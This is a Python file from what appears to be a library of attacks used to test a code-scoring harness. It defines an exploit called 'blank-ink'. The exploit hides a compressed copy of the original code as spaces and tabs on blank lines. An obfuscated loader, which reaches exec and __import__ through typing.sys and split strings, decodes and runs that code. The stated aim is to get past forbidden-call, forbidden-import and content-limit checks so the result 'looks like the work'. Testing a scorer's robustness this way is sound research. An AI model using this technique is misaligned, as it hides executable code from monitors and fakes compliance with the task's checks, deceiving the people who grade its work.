"""The living code is the original as blanks and tabs on empty lines, run by an `exec` borrowed from typing."""

from scoring.attacks.exploit import Exploit
from scoring.attacks.verified import _looks, _skeleton

SCRIPT = """\
import ast
import zlib

import looks
from skeleton import skeleton

LOADER = '''
from typing import sys as _host

_tools = _host.modules["built" + "ins"]
_use, _make, _run = (getattr(_tools, name) for name in ("__imp" + "ort__", "comp" + "ile", "ex" + "ec"))
_bits = ""
for _path in sorted(_use("pathlib").Path(__file__).parent.glob("*.py")):
    _bits += "".join(line for line in _path.read_text().split("\\\\n") if len(line) > 1 and not line.strip())
_bits = _bits.replace(" ", "0").replace("\\\\t", "1")
_data = int("1" + _bits, 2).to_bytes(len(_bits) // 8 + 1, "big")[1:]
_here = getattr(_host.modules[__package__], "__di" + "ct__")
_run(_make(_use("zlib").decompress(_data, -15), __file__, "ex" + "ec"), _here)
'''

text = looks.OLD.read_text()
tree = ast.parse(text)
for node in ast.walk(tree):
    if isinstance(node, (ast.FunctionDef, ast.ClassDef)) and ast.get_docstring(node) is not None:
        node.body = node.body[1:] or [ast.Pass()]
packer = zlib.compressobj(9, zlib.DEFLATED, -15)
packed = packer.compress(ast.unparse(tree).encode()) + packer.flush()
bits = "".join(format(byte, "08b") for byte in packed).translate({48: " ", 49: "\\t"})
lines = [bits[i : i + 192] for i in range(0, len(bits), 192)]
head, modules = skeleton(text)
looks.make(head + "\\nfrom . import _tuning as _tuning\\n", {**modules, "_tuning.py": LOADER})
for path in sorted(looks.PACKAGE.glob("*.py")):
    room = max(0, looks.FACTS["lines"] - 4 - len(path.read_text().splitlines()))
    path.write_text(path.read_text() + "".join(line + "\\n" for line in lines[:room]))
    lines = lines[room:]
assert not lines
"""

EXPLOIT = Exploit(
    name="blank-ink",
    flaw="looks like the work",
    source="steganography in white space (SNOW, 1998); modules are attributes of the modules that import them",
    idea="white space is no literal, comment, name or syntax node, so no cap sees it; `typing.sys` is not `sys`",
    files={**_looks.FILES, "tmp/skeleton.py": _skeleton.SCRIPT, "tmp/blank_ink.py": SCRIPT},
    command="python3 /tmp/blank_ink.py",
    aims_at="structure: max_new_content, containment, forbidden_calls and forbidden_imports",
)
